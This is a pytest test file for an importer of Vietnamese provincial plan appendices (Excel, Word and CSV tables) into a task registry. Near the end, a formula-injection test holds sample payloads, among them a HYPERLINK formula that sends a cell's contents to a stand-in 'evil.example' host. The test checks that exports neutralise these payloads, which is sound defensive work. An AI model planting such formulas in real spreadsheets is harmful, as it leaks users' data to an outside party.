"""Appendix tables as clerks keep them: XLSX and DOCX made here with openpyxl and python-docx, .xls fixtures from
tests/data (made once by tests/data/make_xls.py), CSVs in UTF-16 and Windows-1258. Each gives the expected tasks;
each malformed variant gives `FILE:ROW:COLUMN: message` errors with nothing written."""

from __future__ import annotations

import codecs
import io
import unicodedata
from datetime import date, datetime
from pathlib import Path

import docx
import openpyxl
import pytest
from sqlmodel import Session, select

from core.i18n import _, use_language
from intake import ImportOptions, RegistryErrors, import_file, preview_import
from core.workdays import WorkCalendar
from storage.agencies import AgencyDirectory
from storage.registry import export_registry
from storage.tables import Task
from tests.conftest import VN

DATA = Path(__file__).resolve().parent / "data"
NOW = datetime(2013, 5, 23, 9, 0, tzinfo=VN)
ISSUED = date(2013, 4, 1)


@pytest.fixture(autouse=True)
def _english():
    with use_language("en"):
        yield


@pytest.fixture(scope="module")
def directory() -> AgencyDirectory:
    return AgencyDirectory.load()


def options(directory, **kw) -> ImportOptions:
    return ImportOptions(directory=directory, calendar=WorkCalendar(), now=NOW, actor="tester",
                         document=kw.pop("document", "62/KH-UBND"), issued=kw.pop("issued", ISSUED), **kw)


def run(engine, source, directory, filename=None, **kw):
    with Session(engine) as s:
        try:
            report = import_file(s, source, filename, options=options(directory, **kw))
        except BaseException:
            s.rollback()
            raise
        s.commit()
        return report


def tasks(engine) -> dict[str, Task]:
    with Session(engine) as s:
        return {t.key: t for t in s.exec(select(Task)).all()}


def errors(excinfo) -> list[str]:
    return [str(p) for p in excinfo.value.problems]


def two_row_header_workbook(*, bad: bool = False) -> bytes:
    """A plan appendix as provinces type it: title, header over two rows with merged cells, numbering row,
    sections (I spanning the row, II in the STT column), a task continued over a page break (no STT), a
    task whose STT/content/deadline cells are merged over two rows with one lead each."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["PHỤ LỤC", None, None, None, None, None])
    ws.merge_cells("A1:F1")
    ws.append(["(Kèm theo Kế hoạch số 62/KH-UBND)"])
    ws.append(["TT", "Nội dung nhiệm vụ", "Cơ quan thực hiện", None, "Thời gian thực hiện", "Kết quả/sản phẩm"])
    ws.append([None, None, "Chủ trì", "Phối hợp", None, None])
    for col in "ABEF":
        ws.merge_cells(f"{col}3:{col}4")
    ws.merge_cells("C3:D3")
    ws.append(["(1)", "(2)", "(3)", "(4)", "(5)", "(6)"])
    ws.append(["I. NỘI DUNG CẢI CÁCH THỂ CHẾ"])
    ws.merge_cells("A6:F6")
    ws.append(["1", "Rà soát văn bản quy phạm pháp luật", "Sở Tư pháp", "Sở Nội vụ, Văn phòng UBND tỉnh",
               "Quý III/2013", "Báo cáo"])
    ws.append(["2", "Xây dựng kế hoạch kiểm soát thủ tục hành chính", "Sở Nôi vụ" if bad else "Sở Nội vụ", None,
               "Quý V/2013" if bad else "Tháng 12/2013", None])
    ws.append([None, "năm 2014 và tổ chức thực hiện", None, None, None, None])  # continued after a page break
    ws.append(["II", "CẢI CÁCH THỦ TỤC HÀNH CHÍNH", None, None, None, None])
    ws.append(["3", "Công bố thủ tục hành chính", "Sở Tư pháp", None, "Thường xuyên", "Quyết định công bố"])
    ws.append([None, None, "Sở Y tế", None, None, None])
    for col in "ABEF":
        ws.merge_cells(f"{col}11:{col}12")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_xlsx_two_row_merged_header_numbering_sections_and_continuations(engine, directory, tmp_path):
    path = tmp_path / "62-KH-UBND.xlsx"
    path.write_bytes(two_row_header_workbook())
    report = run(engine, path, directory)
    assert report.added == ["62-kh-ubnd-1", "62-kh-ubnd-2", "62-kh-ubnd-3-so-tu-phap", "62-kh-ubnd-3-so-y-te"]
    ts = tasks(engine)
    t1 = ts["62-kh-ubnd-1"]
    assert (t1.lead_agency, t1.coordinators) == ("so-tu-phap", ["so-noi-vu", "van-phong-ubnd-tinh"])
    assert t1.section == "I. NỘI DUNG CẢI CÁCH THỂ CHẾ" and t1.product == "Báo cáo"
    assert (t1.deadline_kind, t1.due) == ("once", date(2013, 9, 30))
    t2 = ts["62-kh-ubnd-2"]
    assert t2.content == "Xây dựng kế hoạch kiểm soát thủ tục hành chính năm 2014 và tổ chức thực hiện"
    assert t2.due == date(2013, 12, 31)
    t3 = ts["62-kh-ubnd-3-so-y-te"]
    assert t3.section == "II. CẢI CÁCH THỦ TỤC HÀNH CHÍNH" and t3.deadline_kind == "continuous"
    assert t3.content == "Công bố thủ tục hành chính" and t3.product == "Quyết định công bố"
    assert not any("column not used" in w for w in report.warnings)


def test_xlsx_malformed_variant_reports_every_problem_where_it_is(engine, directory, tmp_path):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(two_row_header_workbook(bad=True))
    with pytest.raises(RegistryErrors) as e:
        run(engine, path, directory)
    errs = errors(e)
    assert errs[0] == f"{path}:8:Chủ trì: unknown agency 'Sở Nôi vụ'; did you mean: Sở Nội vụ?"
    assert errs[1].startswith(f"{path}:8:Thời gian thực hiện: cannot read the deadline: \"Quý V/2013\"")
    assert len(errs) == 2
    assert tasks(engine) == {}


def test_the_same_error_reads_in_vietnamese(engine, directory, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành\n1,Việc,Sở Tư pháp,Quý I/2014\n"
                    "2,Việc,Sở Tư pháp,Quý I/2014\n3,Việc,Sở Nôi vụ,Quý I/2014\n", encoding="utf-8")
    with use_language("vi"), pytest.raises(RegistryErrors) as e:
        run(engine, path, directory)
    assert errors(e) == [f"{path}:4:Cơ quan chủ trì: không có cơ quan 'Sở Nôi vụ'; có phải: Sở Nội vụ?"]


def test_xls_fixture_with_merged_header_and_merged_rows(engine, directory):
    report = run(engine, DATA / "plan-merged-header.xls", directory)
    assert report.added == ["62-kh-ubnd-1", "62-kh-ubnd-2-so-noi-vu", "62-kh-ubnd-2-so-y-te", "62-kh-ubnd-3"]
    ts = tasks(engine)
    assert ts["62-kh-ubnd-1"].coordinators == ["so-noi-vu"] and ts["62-kh-ubnd-1"].product == "Báo cáo"
    assert ts["62-kh-ubnd-2-so-y-te"].section == "I. CẢI CÁCH THỂ CHẾ"
    assert ts["62-kh-ubnd-2-so-y-te"].assignee_text == "Sở Nội vụ, Sở Y tế"
    assert ts["62-kh-ubnd-3"].section == "II. CẢI CÁCH TỔ CHỨC BỘ MÁY"
    assert ts["62-kh-ubnd-3"].deadline_kind == "recurring"


def test_xls_fixture_malformed_with_headers_without_diacritics(engine, directory):
    path = DATA / "plan-bad.xls"
    with pytest.raises(RegistryErrors) as e:
        run(engine, path, directory)
    errs = errors(e)
    assert errs[0] == f"{path}:3:Co quan chu tri: unknown agency 'Sở Nôi vụ'; did you mean: Sở Nội vụ?"
    assert errs[1].startswith(f"{path}:4:Thoi gian hoan thanh: cannot read the deadline: \"Quý V/2013\"")
    assert tasks(engine) == {}


def test_headers_without_diacritics_and_the_usual_variants(engine, directory, tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("So TT;NOI DUNG CONG VIEC;Don vi chu tri;Co quan/don vi phoi hop;Thoi han hoan thanh;San pham\n"
                    "1;Việc một;Sở Tư pháp;Sở Y tế;Quý IV/2013;Báo cáo\n", encoding="utf-8")
    report = run(engine, path, directory)
    assert report.added == ["62-kh-ubnd-1"] and not report.warnings
    t = tasks(engine)["62-kh-ubnd-1"]
    assert (t.lead_agency, t.coordinators, t.due, t.product) == ("so-tu-phap", ["so-y-te"], date(2013, 12, 31),
                                                                 "Báo cáo")


def docx_plan(path: Path, *, bad: bool = False) -> Path:
    """Two tables (the appendix runs over a page break and Word starts a new table, repeating the header);
    the header's "Cơ quan thực hiện" spans two columns; a task's STT cell is merged over two rows."""
    d = docx.Document()
    d.add_paragraph("PHỤ LỤC")
    t = d.add_table(rows=5, cols=5)
    head = ["STT", "Nội dung", "Cơ quan thực hiện", "", "Thời hạn"]
    for i, h in enumerate(head):
        t.cell(0, i).text = h
    t.cell(0, 2).merge(t.cell(0, 3))
    t.cell(0, 2).text = "Cơ quan thực hiện"
    for i, h in enumerate(["", "", "Chủ trì", "Phối hợp", ""]):
        if h:
            t.cell(1, i).text = h
    for i in (0, 1, 4):
        t.cell(0, i).merge(t.cell(1, i))
    rows = [["1", "Rà soát văn bản", "Sở Tư pháp", "Sở Nội vụ", "Quý III/2013"],
            ["2", "Kiểm tra công tác cải cách", "Sở Nội vụ", "", "Tháng 10/2013"],
            ["", "", "Sở Y tế" if not bad else "Sở Bay", "", ""]]
    for r, values in enumerate(rows, start=2):
        for c, v in enumerate(values):
            if v:
                t.cell(r, c).text = v
    t.cell(3, 0).merge(t.cell(4, 0))
    t.cell(3, 1).merge(t.cell(4, 1))
    t.cell(3, 4).merge(t.cell(4, 4))
    d.add_page_break()
    t2 = d.add_table(rows=3, cols=5)
    for i, h in enumerate(["STT", "Nội dung", "Chủ trì", "Phối hợp", "Thời hạn"]):
        t2.cell(0, i).text = h
    for c, v in enumerate(["", "(tiếp theo) và báo cáo kết quả", "", "", ""]):
        t2.cell(1, c).text = v
    for c, v in enumerate(["3", "Tổng kết", "Sở Nội vụ", "", "Tháng 12/2013"]):
        t2.cell(2, c).text = v
    d.save(str(path))
    return path


def test_docx_tables_over_a_page_break(engine, directory, tmp_path):
    path = docx_plan(tmp_path / "ke-hoach.docx")
    report = run(engine, path, directory)
    assert report.added == ["62-kh-ubnd-1", "62-kh-ubnd-2-so-noi-vu", "62-kh-ubnd-2-so-y-te", "62-kh-ubnd-3"]
    ts = tasks(engine)
    assert ts["62-kh-ubnd-1"].coordinators == ["so-noi-vu"]
    assert ts["62-kh-ubnd-2-so-y-te"].content == "Kiểm tra công tác cải cách (tiếp theo) và báo cáo kết quả"
    assert ts["62-kh-ubnd-3"].due == date(2013, 12, 31)


def test_docx_malformed_variant(engine, directory, tmp_path):
    path = docx_plan(tmp_path / "bad.docx", bad=True)
    with pytest.raises(RegistryErrors) as e:
        run(engine, path, directory)
    assert errors(e) == [f"{path}:4:Chủ trì: unknown agency 'Sở Bay'; did you mean: Sở Y tế?"]
    assert tasks(engine) == {}


ROWS = [["STT", "Nội dung", "Cơ quan chủ trì", "Thời gian hoàn thành"],
        ["1", "Tuyên truyền cải cách hành chính", "Sở Thông tin và Truyền thông", "Thường xuyên"],
        ["2", "Kiểm tra việc thực hiện quy chế", "Sở Nội vụ", "Quý IV/2013"]]


def _tones_apart(text: str) -> str:
    """Windows-1258 keeps the base letter (â, ơ, ư …) and writes the tone as a combining mark after it."""
    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = []
    for ch in unicodedata.normalize("NFC", text):
        d = unicodedata.normalize("NFD", ch)
        out.append(unicodedata.normalize("NFC", "".join(c for c in d if c not in tones))
                   + "".join(c for c in d if c in tones))
    return "".join(out)


@pytest.mark.parametrize("name, encode, encoding", [
    ("plan.csv", lambda t: codecs.BOM_UTF8 + t.replace("\t", ",").encode("utf-8"), "utf-8-sig"),
    ("plan.csv", lambda t: t.replace("\t", ",").encode("utf-16"), "utf-16"),
    ("plan.txt", lambda t: t.encode("utf-16"), "utf-16"),  # Excel's "Unicode Text"
    ("plan.csv", lambda t: _tones_apart(t.replace("\t", ";")).encode("cp1258"), "cp1258"),
])
def test_encodings_are_detected_and_reported(engine, directory, tmp_path, name, encode, encoding):
    text = "\r\n".join("\t".join(r) for r in ROWS) + "\r\n"
    path = tmp_path / name
    path.write_bytes(encode(text))
    report = run(engine, path, directory)
    assert report.encoding == encoding
    assert report.added == ["62-kh-ubnd-1", "62-kh-ubnd-2"]
    t = tasks(engine)["62-kh-ubnd-1"]
    assert t.content == "Tuyên truyền cải cách hành chính" and t.lead_agency == "so-thong-tin-truyen-thong"


def test_a_windows_1258_csv_with_an_error_points_at_it(engine, directory, tmp_path):
    path = tmp_path / "old.csv"
    text = "\r\n".join(",".join(r) for r in ROWS + [["3", "Việc ba", "Sở Nôi vụ", "Quý I/2014"]]) + "\r\n"
    path.write_bytes(_tones_apart(text).encode("cp1258"))
    with pytest.raises(RegistryErrors) as e:
        run(engine, path, directory)
    assert errors(e) == [f"{path}:4:Cơ quan chủ trì: unknown agency 'Sở Nôi vụ'; did you mean: Sở Nội vụ?"]


def test_a_plan_end_bounds_its_recurring_duties(engine, directory, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành,Đến\n"
                    "1,Báo cáo định kỳ,Sở Nội vụ,Hàng quý,\n2,Báo cáo tháng,Sở Tư pháp,Hàng tháng,30/09/2013\n",
                    encoding="utf-8")
    run(engine, path, directory, subject="Kế hoạch cải cách hành chính giai đoạn 2013-2014")
    from core.deadline import Deadline

    ts = tasks(engine)
    quarterly = Deadline.from_dict(ts["62-kh-ubnd-1"].deadline)
    assert quarterly.occurrences(date(2013, 1, 1), date(2030, 1, 1))[-1] == date(2014, 12, 31)
    monthly = Deadline.from_dict(ts["62-kh-ubnd-2"].deadline)
    assert monthly.occurrences(date(2013, 1, 1), date(2030, 1, 1))[-1] == date(2013, 9, 30)


def test_preview_says_what_would_change_and_writes_nothing(engine, directory, tmp_path):
    path = tmp_path / "plan.xlsx"
    path.write_bytes(two_row_header_workbook())
    with Session(engine) as s:
        report = preview_import(s, path.read_bytes(), "plan.xlsx", options=options(directory))
        s.commit()
    assert report.dry_run and len(report.added) == 4
    assert tasks(engine) == {}
    run(engine, path, directory)
    wb = openpyxl.load_workbook(io.BytesIO(two_row_header_workbook()))  # the same file …
    wb.active["E7"] = "Quý IV/2013"  # … with one deadline changed
    buf = io.BytesIO()
    wb.save(buf)
    with Session(engine) as s:
        report = preview_import(s, buf.getvalue(), "plan.xlsx", options=options(directory))
    assert report.changed == ["62-kh-ubnd-1"] and len(report.unchanged) == 3
    assert report.changes["62-kh-ubnd-1"]["deadline_text"] == ["Quý III/2013", "Quý IV/2013"]
    assert tasks(engine)["62-kh-ubnd-1"].deadline_text == "Quý III/2013"


# -- safe exports (formula injection) ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/leak?"&C3,"Xem")', "+1+2", "-5 ngày", "@SUM(A1:A2)"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_cells_are_exported_inert_and_read_back_the_same(engine, directory, tmp_path, fmt):
    path = tmp_path / "plan.csv"
    lines = ["Mã,STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành"]
    for i, f in enumerate(FORMULAS, start=1):
        lines.append(f'k{i},{i},"{f.replace(chr(34), chr(34) * 2)}",Sở Nội vụ,Quý IV/2013')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    run(engine, path, directory)
    before = {k: t.content for k, t in tasks(engine).items()}
    assert sorted(before.values()) == sorted(FORMULAS)
    out = tmp_path / f"export.{fmt}"
    with Session(engine) as s:
        export_registry(s, out)
    if fmt == "csv":
        text = out.read_text(encoding="utf-8-sig")
        for f in FORMULAS:
            assert ("'" + f) in text.replace('""', '"')
        assert "\n=" not in text and ",=" not in text and ",+" not in text and ",-" not in text
    else:
        ws = openpyxl.load_workbook(out).active
        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"]
        assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula
    from storage.db import make_engine, upgrade

    url = f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
    upgrade(url)
    fresh = make_engine(url)
    run(fresh, out, directory)
    assert {k: t.content for k, t in tasks(fresh).items()} == before
    fresh.dispose()


# -- deadlines without a date, dates without a year ------------------------------------------------------------

def test_urgent_deadlines_are_kept_as_written_and_counted_in_working_days(engine, directory, tmp_path):
    from core.deadline import Deadline
    from core.urgent import describe_urgent, is_urgent

    path = tmp_path / "plan.csv"
    path.write_text("STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành\n1,Việc gấp,SNV,Khẩn trương\n"
                    "2,Việc ngay,SNV,Ngay\n3,Việc kịp thời,SNV,Kịp thời\n4,Việc sớm,SNV,Sớm\n"
                    "5,Việc thường xuyên,SNV,Thường xuyên\n", encoding="utf-8")
    # issued Thursday 11/07/2013: 5 working days later (Art. 147: counted from the next day) is Thursday 18/07
    run(engine, path, directory, issued=date(2013, 7, 11))
    ts = tasks(engine)
    for key in ("62-kh-ubnd-1", "62-kh-ubnd-2", "62-kh-ubnd-3", "62-kh-ubnd-4"):
        t = ts[key]
        assert is_urgent(t.deadline) and t.due == date(2013, 7, 18) and t.deadline_kind == "once", key
        assert Deadline.from_dict(t.deadline).due == date(2013, 7, 18)
    assert ts["62-kh-ubnd-1"].deadline_text == "Khẩn trương"
    assert not is_urgent(ts["62-kh-ubnd-5"].deadline) and ts["62-kh-ubnd-5"].deadline_kind == "continuous"
    assert describe_urgent(date(2013, 7, 18), "vi") == "khẩn trương (hạn tính: 18/07/2013)"
    # URGENT_WORKDAYS
    run(engine, path, directory, issued=date(2013, 7, 11), urgent_workdays=2, document="63/KH-UBND")
    assert tasks(engine)["63-kh-ubnd-1"].due == date(2013, 7, 15)


def test_a_date_without_a_year_far_from_the_issue_date_is_a_warning_naming_the_year(engine, directory, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành\n1,Việc,SNV,trước ngày 14/6\n"
                    "2,Việc,SNV,trước ngày 14/8\n", encoding="utf-8")
    report = run(engine, path, directory, issued=date(2013, 7, 11))
    assert tasks(engine)["62-kh-ubnd-1"].due == date(2014, 6, 14)
    assert report.warnings == [f"{path}:2:Thời gian hoàn thành: 'trước ngày 14/6' has no year: read as 14/06/2014, "
                               "the first after the issue date 11/07/2013; write the year if another was meant"]


def test_dates_in_files_stay_within_the_grammars_years(engine, directory, tmp_path):
    path = tmp_path / "plan.csv"
    path.write_text("STT,Nội dung,Cơ quan chủ trì,Thời gian hoàn thành,Văn bản,Ngày ban hành\n"
                    "1,Việc,SNV,Quý I/2014,9/KH,31/12/9999\n", encoding="utf-8")
    with pytest.raises(RegistryErrors) as e:
        run(engine, path, directory, document=None, issued=None)
    assert errors(e)[0] == f"{path}:2:Ngày ban hành: '31/12/9999' is not a date (dd/mm/yyyy)"


def test_a_roman_numbered_section_merged_across_the_table_is_a_section_not_a_task(engine, directory, tmp_path):
    """Issue 27: "II | CẢI CÁCH THỦ TỤC HÀNH CHÍNH" with the title merged over every column after the STT was read
    as a task whose lead and deadline were copies of its title."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["TT", "Nội dung nhiệm vụ", "Cơ quan chủ trì", "Cơ quan phối hợp", "Thời gian hoàn thành"])
    ws.append(["I", "NỘI DUNG CẢI CÁCH THỂ CHẾ", None, None, None])
    ws.merge_cells("B2:E2")
    ws.append(["1", "Rà soát văn bản quy phạm pháp luật", "Sở Tư pháp", None, "Quý III/2013"])
    ws.append(["II", "Cải cách thủ tục hành chính", None, None, None])
    ws.merge_cells("B4:E4")
    ws.append(["2", "Công bố thủ tục hành chính", "Sở Tư pháp", None, "Tháng 12/2013"])
    ws.append(["B.", "Các nhiệm vụ khác", None, None, None])
    ws.merge_cells("B6:E6")
    ws.append(["3", "Báo cáo kết quả", "Sở Nội vụ", None, "Tháng 12/2013"])
    path = tmp_path / "62-KH-UBND.xlsx"
    buf = io.BytesIO()
    wb.save(buf)
    path.write_bytes(buf.getvalue())
    report = run(engine, path, directory)
    assert report.added == ["62-kh-ubnd-1", "62-kh-ubnd-2", "62-kh-ubnd-3"]
    ts = tasks(engine)
    assert ts["62-kh-ubnd-1"].section == "I. NỘI DUNG CẢI CÁCH THỂ CHẾ"
    assert ts["62-kh-ubnd-2"].section == "II. Cải cách thủ tục hành chính"
    assert ts["62-kh-ubnd-3"].section == "II. Cải cách thủ tục hành chính › B. Các nhiệm vụ khác"
